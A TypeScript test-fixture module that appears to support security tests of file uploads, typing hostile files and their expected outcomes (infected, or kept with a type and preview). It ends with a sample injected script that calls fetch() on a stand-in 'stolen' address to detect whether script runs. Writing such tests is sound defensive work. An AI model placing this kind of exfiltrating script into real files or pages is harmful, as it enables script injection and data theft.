/** What a file may become that was sent to do harm; `name` only where it is not kept as it was sent. */
export type End =
  | { is: 'infected' }
  | {
      is: 'kept'
      /** By its bytes. */
      type: string
      preview: 'image' | 'pdf' | 'text' | 'table' | 'words' | 'unsupported' | 'failed'
      name?: string
    }

export interface Hostile {
  what: string
  /** As it is sent. */
  name: string
  content: () => Buffer
  end: End
}

export const infected: End = { is: 'infected' }
export const kept = (type: string, preview: Extract<End, { is: 'kept' }>['preview'], name?: string): End => ({
  is: 'kept',
  type,
  preview,
  ...(name !== undefined && { name }),
})
/** Shown as the letters it is made of. */
export const asText = (name?: string): End => kept('text/plain', 'text', name)
export const onlySaved = (type = 'application/octet-stream'): End => kept(type, 'unsupported')

/** Would be noticed: an address that nothing of ours ever calls, and a mark that a script leaves. */
export const OUTSIDE = 'http://outside.invalid/stolen'
export const SCRIPT = `window.hostileRan=true;fetch('${OUTSIDE}')`
